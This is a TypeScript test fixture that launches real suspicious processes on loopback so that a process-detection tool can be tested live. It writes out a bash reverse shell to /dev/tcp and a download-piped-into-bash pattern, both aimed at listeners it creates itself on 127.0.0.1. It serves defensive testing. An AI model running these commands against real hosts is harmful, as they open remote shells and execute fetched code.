// Real suspicious processes for the live `detect` tests: each started detached (its own session and process
// group, no terminal), a bash reverse shell to a loopback listener and a download piped into a shell from a
// loopback HTTP server among them, all ended together.
import {type ChildProcess, spawn} from 'node:child_process';
import {createServer as createHttpServer} from 'node:http';
import {createServer, type Server, type Socket} from 'node:net';
import {killGroups} from './cli.js';

export interface StartOptions {
  /** argv[0] as `exec -a` sets it. */
  readonly argv0?: string;
  /** The environment (default: the test's own). */
  readonly env?: NodeJS.ProcessEnv;
}

export class SuspectProcesses {
  private readonly children: ChildProcess[] = [];
  private readonly sockets: Socket[] = [];
  private readonly servers: Server[] = [];

  /** Start a long-lived process in its own session; resolves with its pid once it is spawned. */
  start(command: string, args: readonly string[], options: StartOptions = {}): Promise<number> {
    return new Promise((resolve, reject) => {
      const child = spawn(command, args, {
        detached: true,
        stdio: 'ignore',
        ...(options.argv0 === undefined ? {} : {argv0: options.argv0}),
        ...(options.env === undefined ? {} : {env: options.env}),
      });
      this.children.push(child);
      child.once('error', reject);
      child.once('spawn', () => (child.pid === undefined ? reject(new Error(`${command} has no pid`)) : resolve(child.pid)));
    });
  }

  /**
   * `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1` to a listener of its own; resolves with the outer bash's pid once
   * the shell has connected. `; true` keeps the outer bash -c from exec'ing the inner one, so its command line
   * stays the reverse shell's. `script` gives another bash -c text for the listener's port (the same shell
   * written another way); each call has its own listener.
   */
  async reverseShell(
    options: StartOptions = {},
    script = (port: number): string => `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1; true`,
    padding: readonly string[] = [],
  ): Promise<number> {
    let server: Server | undefined;
    const connected = new Promise<void>((resolve) => {
      server = createServer((socket) => {
        this.sockets.push(socket);
        resolve();
      });
      this.servers.push(server);
    });
    const port = await new Promise<number>((resolve) => {
      server?.listen(0, '127.0.0.1', () => {
        const address = server?.address();
        resolve(typeof address === 'object' && address !== null ? address.port : 0);
      });
    });
    // `padding`: more arguments after the script (bash -c takes them as $0, $1, …), to make its argv long.
    const pid = await this.start('/bin/bash', ['-c', script(port), ...padding], options);
    await connected;
    return pid;
  }

  /**
   * `bash -c script(url)`, where `url` serves a shell script that sleeps for ten minutes from a loopback HTTP
   * server of its own (the download a `curl … | bash` fetches); resolves with the bash's pid once the script has
   * been fetched. The bash runs the pipeline, so its command line stays `script`.
   */
  async downloadAndRun(script: (url: string) => string, options: StartOptions = {}): Promise<number> {
    let fetched: () => void = () => undefined;
    const done = new Promise<void>((resolve) => (fetched = resolve));
    const server = createHttpServer((_request, response) => {
      response.end('sleep 600\n', fetched);
    });
    this.servers.push(server);
    const port = await new Promise<number>((resolve) => {
      server.listen(0, '127.0.0.1', () => {
        const address = server.address();
        resolve(typeof address === 'object' && address !== null ? address.port : 0);
      });
    });
    const pid = await this.start('/bin/bash', ['-c', script(`http://127.0.0.1:${port}/a.sh`)], options);
    await done;
    return pid;
  }

  /** Close the listeners and kill every process group started (the inner bash of the shell, a shell's sleep). */
  stopAll(): void {
    for (const socket of this.sockets) socket.destroy();
    for (const server of this.servers) server.close();
    killGroups(this.children);
  }
}
